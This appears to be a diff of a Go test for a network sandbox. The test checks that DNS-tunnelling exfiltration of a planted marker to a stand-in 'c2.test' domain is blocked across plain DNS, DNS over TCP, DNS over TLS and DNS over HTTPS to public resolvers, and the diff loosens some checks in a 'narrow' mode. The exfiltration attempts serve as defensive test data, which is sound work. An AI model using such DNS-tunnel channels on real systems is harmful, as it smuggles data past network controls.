@@ -23,7 +23,7 @@ func tunnel(t *testing.T, b *sealed) {
 	for _, server := range []string{"127.0.0.1:53", "8.8.8.8:53", c2Addr.String() + ":53", "[2001:4860:4860::8888]:53"} {
 		for _, kind := range []string{"A", "AAAA", "TXT", "NULL", "HTTPS", "MX"} {
 			r := evil[resolution](t, b, "dns", server, planted+".c2.test", kind)
-			if r.RCode != "NameError" {
+			if r.RCode != "NameError" && !(narrow() && server != "127.0.0.1:53" && strings.Contains(r.Error, unreachable)) {
 				t.Errorf("%s for %s: %+v", kind, server, r)
 			}
 		}
@@ -34,13 +34,15 @@ func tunnel(t *testing.T, b *sealed) {
 			t.Errorf("DNS over TCP to %s: %+v", addr, r)
 		}
 	}
-	b.audited(t, "DNS over TCP", "was dialled as a bare address", func(e audit.Event) bool { return e.Addr == "8.8.8.8" && e.Port == 53 })
+	if !narrow() {
+		b.audited(t, "DNS over TCP", "was dialled as a bare address", func(e audit.Event) bool { return e.Addr == "8.8.8.8" && e.Port == 53 })
+	}
 	// DNS over TLS, and over HTTPS by name and address.
-	refused(t, b.http(t, "-via", "direct", "-k", "https://1.1.1.1:853/"+planted), "1.1.1.1")
+	refusedAddress(t, b.http(t, "-via", "direct", "-k", "https://1.1.1.1:853/"+planted), "1.1.1.1")
 	for _, host := range []string{"dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net"} {
 		refused(t, b.http(t, "-via", "connect", "-k", "https://"+host+"/dns-query?name="+planted+".c2.test"), "no rule of this bottle names the host "+host)
 	}
-	refused(t, b.http(t, "-via", "direct", "-k", "https://8.8.8.8/dns-query?name="+planted+".c2.test"), "8.8.8.8")
+	refusedAddress(t, b.http(t, "-via", "direct", "-k", "https://8.8.8.8/dns-query?name="+planted+".c2.test"), "8.8.8.8")
 	for _, q := range world.dns.asked() {
 		if strings.Contains(q, planted) {
 			t.Errorf("a query left: %s", q)
